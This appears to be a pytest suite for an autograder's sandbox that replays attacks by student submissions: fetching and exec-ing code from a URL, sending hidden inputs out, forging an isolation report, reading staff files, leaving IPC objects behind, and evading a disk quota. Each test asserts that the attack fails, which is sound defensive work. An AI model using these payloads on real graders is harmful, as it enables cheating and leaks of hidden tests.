"""The attacks that broke the sandbox inside Gradescope's container, reproduced for real.

Each test grades a hostile toy submission with source/grade.py as root under exactly Docker's
default capability set (setpriv, DOCKER_CAPS: no CAP_SYS_ADMIN, so no network namespace), as
Gradescope runs us, unless it says otherwise. WRONG computes `scale` wrongly, so any point a
submission built on it earns for `scale` came from the attack.
"""
import http.server
import os
import re
import shutil
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from .helpers import AS_ROOT, CORRECT_OTHER, CORRECT_TOY, DOCKER_CAPS, REPO, TOY, run_grader, shown, write_files
from .test_hostile import WRONG, assert_no_points_for_scale, wrong_with

pytestmark = pytest.mark.skipif(not AS_ROOT or not shutil.which("setpriv"),
                                reason="as Gradescope runs it: root, and setpriv for Docker's capability set")


def grade_as_gradescope(tmp_path, files, **options):
    submission = write_files(tmp_path / "submission", files)
    return run_grader(submission, tmp_path, wrapper=DOCKER_CAPS, **options)


def layers(graded):
    return graded.results["extra_data"]["isolation"]["layers"]


class AnswerServer:
    """A web server on 127.0.0.1 that hands out a correct toy.py and records every connection
    (`connections`) and every request (`requests`)."""

    def __init__(self):
        requests, connections = self.requests, self.connections = [], []

        class Server(http.server.ThreadingHTTPServer):
            def verify_request(self, request, client_address):
                connections.append(client_address)
                return True

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                requests.append(self.path)
                body = CORRECT_TOY.encode()
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args):
                pass

        self.server = Server(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def answers():
    server = AnswerServer()
    yield server
    server.close()


# ---------------------------------------------------------------- 1. the network

def test_a_file_that_downloads_its_answers_at_import_gets_nothing(tmp_path, answers):
    graded = grade_as_gradescope(tmp_path, {"toy.py": wrong_with(f"""
        import urllib.request
        try:
            exec(urllib.request.urlopen({answers.url + '/solution'!r}, timeout=5).read().decode())
        except Exception as exc:
            print("download failed:", exc)
    """)})
    assert answers.connections == [] and answers.requests == []
    assert_no_points_for_scale(graded)
    assert not layers(graded)["network-namespace"]["on"]  # Docker's capabilities: seccomp alone stops it
    assert layers(graded)["seccomp"]["on"]


def test_a_file_that_sends_the_hidden_inputs_out_sends_nothing(tmp_path, answers):
    grade_as_gradescope(tmp_path, {"toy.py": CORRECT_TOY.replace("    return c * x", f"""
    import socket, urllib.parse, urllib.request
    leak = urllib.parse.quote(repr((c, x.tolist())))
    for send in (lambda: urllib.request.urlopen({answers.url!r} + "/leak?" + leak, timeout=2),
                 lambda: socket.create_connection(("127.0.0.1", {answers.url.rsplit(':', 1)[1]}), timeout=2)):
        try:
            send()
        except Exception:
            pass
    return c * x""")})
    assert answers.connections == [] and answers.requests == []


# ---------------------------------------------------------------- 2. the isolation report

def test_the_isolation_report_cannot_be_forged_by_the_student_module(tmp_path):
    """The module rewrites the wire protocol and writes fake 'all layers on' reports to every
    descriptor; the report was sent before it was imported, and the trusted side checks /proc."""
    forged = {name: {"on": True, "detail": "forged"} for name in
              ("sandbox-user", "no-new-privs", "seccomp", "landlock", "network-namespace", "rlimits", "disk-quota")}
    graded = grade_as_gradescope(tmp_path, {"toy.py": wrong_with(f"""
        import json, os, struct, sys
        forged = {forged!r}
        message = json.dumps({{"event": "started", "layers": forged, "network_isolated": True}}).encode()
        for fd in range(3, 64):
            try:
                os.write(fd, struct.pack(">I", len(message)) + message)
            except OSError:
                pass
        for name, module in list(sys.modules.items()):
            if name.startswith("autograder") and hasattr(module, "send"):
                original = module.send
                module.send = lambda sock, msg, original=original: original(sock, {{**msg, "layers": forged}})
    """)})
    assert layers(graded)["network-namespace"]["on"] is False
    assert "forged" not in str(graded.results["extra_data"])
    assert_no_points_for_scale(graded)


# ---------------------------------------------------------------- 3. hidden inputs in visible feedback

REMEMBERING_SCALE = '''
import os
import numpy as np

SEEN = []

def scale(x, c):
    x = np.asarray(x)
    SEEN.append(f"c={c} shape={x.shape}")
    for place in (".", "/tmp", "/dev/shm", "/var/tmp", os.environ.get("HOME", ".")):
        try:
            with open(os.path.join(place, "seen-by-scale.txt"), "a") as log:
                log.write(SEEN[-1] + "\\n")
        except OSError:
            pass
    remembered = list(SEEN)
    for place in (".", "/tmp", "/dev/shm", "/var/tmp"):
        try:
            with open(os.path.join(place, "seen-by-scale.txt")) as log:
                remembered += log.read().split("\\n")
        except OSError:
            pass
    print("REMEMBERED:", sorted(set(r for r in remembered if r)))
    return c * x
'''


def test_hidden_inputs_never_appear_in_a_visible_tests_output(tmp_path):
    """toy.py prints every input it has ever seen, from memory and from files it left anywhere it
    could write; the hidden test calls scale with c=-1.5 on a 3x4 matrix."""
    graded = grade_as_gradescope(tmp_path, {"toy.py": REMEMBERING_SCALE + CORRECT_TOY.split("def scale")[0]
                                            + "def stats" + CORRECT_TOY.split("def stats")[1]})
    visible = [t for t in graded.results["tests"] if t["visibility"] == "visible"]
    assert {t["extra_data"]["id"].split("::")[1] for t in visible} >= {"test_scale_doubles_a_vector"}
    for test in visible:
        seen = shown(test["output"])
        assert "c=-1.5" not in seen and "(3, 4)" not in seen, seen
    assert "c=3.0 shape=(2,)" in graded.shown("test_decorators_set_points_number_visibility_and_tags")  # printed
    hidden = graded.test("test_scale_matches_on_a_random_matrix")
    assert hidden["status"] == "passed"


# ---------------------------------------------------------------- 4. the staff checkout

def test_a_loader_cannot_read_the_checkout_selftests_or_dist(tmp_path):
    """A toy.py of stubs that loads a correct toy.py from the checkout's self-tests, reads the
    packaged autograder and the reference, and follows sys.executable into the checkout."""
    dist = REPO / "dist"
    dist.mkdir(exist_ok=True)
    probe = dist / f"probe-{os.getpid()}.txt"
    probe.write_text("the hidden tests")
    os.chmod(probe, 0o644)
    targets = [TOY / "submissions" / "correct" / "toy.py", probe, REPO / "source" / "reference" / "batchnorm.py",
               REPO / "README.md"]
    try:
        graded = grade_as_gradescope(tmp_path, {"toy.py": wrong_with(f"""
            import os, sys
            found = []
            for path in {[str(t) for t in targets]!r} + [sys.executable]:
                try:
                    text = open(path, "rb").read(100)
                    found.append("read " + path)
                    if path.endswith("toy.py"):
                        exec(open(path).read())
                except OSError as exc:
                    found.append(type(exc).__name__)
            def stats(x):
                raise RuntimeError("reads: " + "|".join(found))
        """)})
    finally:
        probe.unlink()
    assert_no_points_for_scale(graded)
    assert "reads: " + "|".join(["PermissionError"] * 5) in graded.shown("test_stats_returns_min_max_and_mean")
    seen = graded.everything_shown()
    assert "the hidden tests" not in seen and "def batchnorm_forward" not in seen and "read /" not in seen


def test_the_checkout_is_closed_to_other_users_after_grading(tmp_path):
    grade_as_gradescope(tmp_path, {"toy.py": CORRECT_TOY})
    assert os.stat(REPO).st_mode & 0o077 == 0


# ---------------------------------------------------------------- 5. state that outlives a run

def test_ipc_objects_and_shared_files_cannot_be_made_or_do_not_survive(tmp_path):
    graded = grade_as_gradescope(tmp_path, {"toy.py": wrong_with("""
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        made = []
        made.append(("shm", libc.shmget(0x5EED, 4096, 0o1000 | 0o666)))
        made.append(("msg", libc.msgget(0x5EED, 0o1000 | 0o666)))
        made.append(("sem", libc.semget(0x5EED, 1, 0o1000 | 0o666)))
        librt = ctypes.CDLL("librt.so.1", use_errno=True)
        made.append(("mq", librt.mq_open(b"/ag-leak", os.O_CREAT | os.O_RDWR, 0o666, None)))
        for place in ("/run/lock", "/dev/shm", "/tmp", "/var/tmp"):
            try:
                open(os.path.join(place, "ag-leak-%d" % os.getpid()), "w").write("x")
                made.append((place, 0))
            except OSError:
                made.append((place, -1))
        def other_made():
            return made
    """), "other.py": CORRECT_OTHER})
    uid = int(re.search(r"uid (\d+)", layers(graded)["sandbox-user"]["detail"]).group(1))
    for kind in ("shm", "msg", "sem"):
        rows = Path(f"/proc/sysvipc/{kind}").read_text().splitlines()[1:]
        assert not [row for row in rows if str(uid) in row.split()[7:11]], (kind, rows)
    for place in ("/run/lock", "/dev/shm", "/tmp", "/var/tmp"):
        assert not [p for p in Path(place).glob("ag-leak-*") if p.stat().st_uid == uid]


def test_cleanup_removes_what_a_sandbox_user_made_outside_any_worker():
    """The layer under seccomp and Landlock: IPC objects and files a sandbox user made without
    either are removed when a run ends."""
    from autograder.sandbox import cleanup, users
    user = users.acquire_user()
    try:
        make = ("import ctypes; libc = ctypes.CDLL(None); "
                "[open(p, 'w').close() for p in ('/tmp/ag-left-behind', '/run/lock/ag-left-behind')]; "
                "print(libc.shmget(0x5EEE, 4096, 0o1000 | 0o600), libc.msgget(0x5EEE, 0o1000 | 0o600))")
        made = subprocess.run(["runuser", "-u", user.name, "--", sys._base_executable, "-I", "-S", "-c", make],
                              capture_output=True, text=True, check=True).stdout.split()
        assert all(int(i) >= 0 for i in made), made
        assert cleanup.remove_user_ipc(user.uid) == 2
        assert cleanup.remove_user_ipc(user.uid) == 0
        cleanup.remove_user_files(user.uid)
        assert not os.path.exists("/tmp/ag-left-behind") and not os.path.exists("/run/lock/ag-left-behind")
    finally:
        cleanup.remove_everything(user.uid)
        os.close(user.lock)


# ---------------------------------------------------------------- 6. the disk

def test_writing_many_small_files_is_stopped_by_the_disk_quota(tmp_path):
    rubric = tmp_path / "rubric.yaml"
    rubric.write_text((TOY / "rubric.yaml").read_text().replace("memory_mb: 400}", "memory_mb: 400, disk_mb: 16}"))
    filler = (TOY / "submissions" / "fills-the-disk" / "toy.py").read_text()
    graded = grade_as_gradescope(tmp_path, {"toy.py": filler}, rubric=rubric)
    test = graded.test("test_scale_doubles_a_vector")
    assert test["score"] == 0
    assert "was stopped for writing more than 16 MB of files, the most graded code may write" in test["output"]
    assert graded.test("test_stats_returns_min_max_and_mean")["status"] == "passed"
    assert layers(graded)["disk-quota"]["on"]


def test_files_deleted_but_kept_open_do_not_escape_the_quota(tmp_path):
    """Disk used by deleted files is in no folder: Landlock does not let graded code delete files,
    and where it can, the watchdog counts the deleted files a worker holds open."""
    rubric = tmp_path / "rubric.yaml"
    rubric.write_text((TOY / "rubric.yaml").read_text().replace("memory_mb: 400}", "memory_mb: 400, disk_mb: 16}"))
    hider = CORRECT_TOY.replace("    return c * x", """
    import os, time
    kept = []
    for i in range(40):
        f = open("hidden-%d" % i, "wb")
        f.write(b"x" * (1 << 20))
        f.flush()
        try:
            os.unlink("hidden-%d" % i)
        except OSError:
            pass
        kept.append(f)
    time.sleep(1.5)
    return c * x""")
    graded = grade_as_gradescope(tmp_path, {"toy.py": hider}, rubric=rubric)
    assert "was stopped for writing more than 16 MB of files" in graded.test("test_scale_doubles_a_vector")["output"]


def test_the_watchdog_counts_deleted_files_a_process_holds_open(tmp_path):
    from autograder.sandbox.quota import deleted_open_bytes
    path = tmp_path / "hidden"
    with open(path, "wb") as kept:
        kept.write(b"x" * (3 << 20))
        kept.flush()
        path.unlink()
        assert deleted_open_bytes([os.getpid()]) >= 3 << 20
    assert deleted_open_bytes([os.getpid()]) == 0


# ---------------------------------------------------------------- 7. two graders on one machine

def test_two_checkouts_grading_at_once_never_share_a_sandbox_user(tmp_path):
    """A second checkout (its own copy of source/) grades beside this one. Each takes a sandbox
    user; if both took the same one, each run's cleanup would kill the other's workers."""
    second = tmp_path / "second-checkout"
    shutil.copytree(REPO / "source", second / "source", ignore=shutil.ignore_patterns("__pycache__"))
    slow = CORRECT_TOY.replace("    return c * x", "    import time; time.sleep(0.3)\n    return c * x")
    runs, results = [], {}

    def run(name, source):
        results[name] = run_grader(write_files(tmp_path / name / "submission", {"toy.py": slow,
                                                                            "other.py": CORRECT_OTHER}),
                                   tmp_path / name, source=source)
    for name, source in (("first", REPO / "source"), ("second", second / "source")):
        runs.append(threading.Thread(target=run, args=(name, source)))
        runs[-1].start()
        time.sleep(0.2)
    for thread in runs:
        thread.join()
    users = {layers(graded)["sandbox-user"]["detail"].split()[0] for graded in results.values()}
    assert len(users) == 2
    assert [graded.results["score"] for graded in results.values()] == [15, 15]


# ---------------------------------------------------------------- failing closed

def test_a_rubric_that_requires_a_missing_layer_refuses_to_grade(tmp_path):
    rubric = tmp_path / "rubric.yaml"
    rubric.write_text((TOY / "rubric.yaml").read_text().replace(
        "memory_mb: 400}", "memory_mb: 400, require: [seccomp, network-namespace]}"))
    graded = grade_as_gradescope(tmp_path, {"toy.py": CORRECT_TOY, "other.py": CORRECT_OTHER}, rubric=rubric)
    assert graded.results["score"] == 0 and graded.results["tests"] == []
    assert "The autograder is misconfigured" in graded.results["output"]
    assert "not a problem with your code" in graded.results["output"]
    assert "network-namespace" in graded.results["output"]


def test_a_rubric_whose_required_layers_are_there_grades_as_usual(tmp_path):
    from autograder.sandbox.confinement import landlock
    required = "[sandbox-user, no-new-privs, seccomp, rlimits, disk-quota" + (", landlock]" if landlock.abi() else "]")
    rubric = tmp_path / "rubric.yaml"
    rubric.write_text((TOY / "rubric.yaml").read_text().replace("memory_mb: 400}", f"memory_mb: 400, require: {required}}}"))
    graded = grade_as_gradescope(tmp_path, {"toy.py": CORRECT_TOY, "other.py": CORRECT_OTHER}, rubric=rubric)
    assert graded.results["score"] == 15


def test_the_layers_are_reported_even_when_no_file_was_submitted(tmp_path):
    graded = grade_as_gradescope(tmp_path, {"notes.txt": "nothing to grade"})
    reported = layers(graded)
    assert reported["seccomp"]["on"] and reported["sandbox-user"]["on"]
    assert "unknown" not in graded.results["extra_data"]["isolation"]["summary"]
